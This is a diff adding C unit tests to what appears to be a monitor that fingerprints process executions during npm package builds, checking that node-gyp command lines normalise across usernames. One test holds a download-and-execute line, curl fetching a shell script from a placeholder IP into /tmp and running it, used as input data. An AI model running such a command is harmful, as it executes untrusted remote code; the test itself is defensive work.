@@ -211,6 +211,88 @@ START_TEST(exec_inline_code_digest)
 }
 END_TEST
 
+/* `tpl` with every "@U@" replaced by `user` (malloc'd). */
+static char *with_user(const char *tpl, const char *user)
+{
+	size_t n = strlen(tpl) + 1, ul = strlen(user);
+	char *out, *o;
+	for (const char *p = strstr(tpl, "@U@"); p; p = strstr(p + 3, "@U@"))
+		n += ul;
+	o = out = malloc(n);
+	ck_assert_ptr_nonnull(out);
+	while (*tpl) {
+		if (!strncmp(tpl, "@U@", 3)) {
+			memcpy(o, user, ul);
+			o += ul;
+			tpl += 3;
+		} else {
+			*o++ = *tpl++;
+		}
+	}
+	*o = '\0';
+	return out;
+}
+
+/*
+ * node-gyp's make runs these (argon2 0.31, better-sqlite3 9.6 and 10.0, as
+ * recorded): the sandbox's user is another person every run, and gyp writes
+ * the home into search paths (a:/home/u), include flags (-I/home/u), make
+ * variables (cmd_/home/u) and .deps//home/u. One fingerprint whoever it is.
+ */
+START_TEST(exec_gyp_command_lines)
+{
+	static const char *const tpl[] = {
+		"LD_LIBRARY_PATH=/home/@U@/app/node_modules/better-sqlite3/build/Release/lib.host:/home/@U@/app/"
+		"node_modules/better-sqlite3/build/Release/lib.target:$LD_LIBRARY_PATH; export LD_LIBRARY_PATH; cd "
+		"../deps; mkdir -p /home/@U@/app/node_modules/better-sqlite3/build/Release/obj/gen/sqlite3; node "
+		"copy.js \"/home/@U@/app/node_modules/better-sqlite3/build/Release/obj/gen/sqlite3\" \"\"",
+		"printf '%s\\n' 'cmd_4292fa9a667d77b27488aa109b010a85bce8e4e7a1c7aa0370cea902395c3866.intermediate "
+		":= LD_LIBRARY_PATH=/home/@U@/app/node_modules/better-sqlite3/build/Release/lib.host:/home/@U@/app/"
+		"node_modules/better-sqlite3/build/Release/lib.target:$$LD_LIBRARY_PATH; export LD_LIBRARY_PATH; cd "
+		"../deps; mkdir -p /home/@U@/app/node_modules/better-sqlite3/build/Release/obj/gen/sqlite3; node "
+		"copy.js \"/home/@U@/app/node_modules/better-sqlite3/build/Release/obj/gen/sqlite3\" \"\"' > "
+		"./Release/.deps/4292fa9a667d77b27488aa109b010a85bce8e4e7a1c7aa0370cea902395c3866.intermediate.d",
+		"printf '%s\\n' 'cmd_Release/obj.target/argon2/argon2_node.o := g++ -o "
+		"Release/obj.target/argon2/argon2_node.o ../argon2_node.cpp '\\''-D_FORTIFY_SOURCE=2'\\'' "
+		"'\\''-DNODE_GYP_MODULE_NAME=argon2'\\'' '\\''-DNAPI_VERSION=3'\\'' -I../argon2/include "
+		"-I/usr/include/node -I/usr/deps/v8/include -I/home/@U@/app/node_modules/node-addon-api  -fPIC "
+		"-pthread -O3 -std=gnu++17 -MMD -MF ./Release/.deps/Release/obj.target/argon2/argon2_node.o.d.raw   "
+		"-c' > ./Release/.deps/Release/obj.target/argon2/argon2_node.o.d",
+		"mkdir -p \"/home/@U@/app/node_modules/argon2/lib/binding/napi-v3/\" "
+		"\"./Release/.deps//home/@U@/app/node_modules/argon2/lib/binding/napi-v3/\"",
+		"printf '%s\\n' 'cmd_/home/@U@/app/node_modules/argon2/lib/binding/napi-v3/argon2.node := ln -f "
+		"\"Release/argon2.node\" \"/home/@U@/app/node_modules/argon2/lib/binding/napi-v3/argon2.node\" "
+		"2>/dev/null || (rm -rf \"/home/@U@/app/node_modules/argon2/lib/binding/napi-v3/argon2.node\" && cp "
+		"-af \"Release/argon2.node\" \"/home/@U@/app/node_modules/argon2/lib/binding/napi-v3/argon2.node\")' "
+		"> ./Release/.deps//home/@U@/app/node_modules/argon2/lib/binding/napi-v3/argon2.node.d",
+	};
+	for (size_t i = 0; i < sizeof(tpl) / sizeof(tpl[0]); i++) {
+		char *c1 = with_user(tpl[i], "samb"), *c2 = with_user(tpl[i], "abecker");
+		char *a = fp_value(t_exec(&evs, "argon2", "/bin/sh", "/bin/sh", "-c", c1, NULL), "0.31.1");
+		char *b = fp_value(t_exec(&evs, "argon2", "/bin/sh", "/bin/sh", "-c", c2, NULL), "0.31.2");
+		ck_assert_msg(!strcmp(a, b), "two users, two fingerprints:\n%s\n%s", a, b);
+		ck_assert_msg(!strstr(a, "samb") && !strstr(a, "/home/"), "the user stays: %s", a);
+		free(a);
+		free(b);
+		free(c1);
+		free(c2);
+	}
+}
+END_TEST
+
+/* A URL is no path: a /home/ in it stays, and so does the host. */
+START_TEST(exec_url_keeps_home)
+{
+	char *a = fp_value(t_exec(&evs, "foo", "/bin/sh", "sh", "-c",
+				  "curl -s https://203.0.113.7/home/alice/x.sh -o/tmp/x.sh && PATH=/usr/bin:/tmp/tmp-4242xyz sh /tmp/x.sh",
+				  NULL),
+			   NULL);
+	ck_assert_str_eq(a, "/bin/sh -c curl -s https://203.0.113.7/home/alice/x.sh -o/tmp/x.sh && "
+			    "PATH=/usr/bin:/tmp/<tmp> sh /tmp/x.sh");
+	free(a);
+}
+END_TEST
+
 START_TEST(network)
 {
 	fangs_event *ev;
@@ -336,6 +418,8 @@ TCase *tcase_fingerprint(void)
 	TCase *tc = tcase_create("fingerprint");
 	tcase_add_checked_fixture(tc, setup, teardown);
 	tcase_add_test(tc, file_opens);
+	tcase_add_test(tc, exec_gyp_command_lines);
+	tcase_add_test(tc, exec_url_keeps_home);
 	tcase_add_test(tc, actor_from_origin);
 	tcase_add_test(tc, execs_plain);
 	tcase_add_test(tc, execs_inline_code);
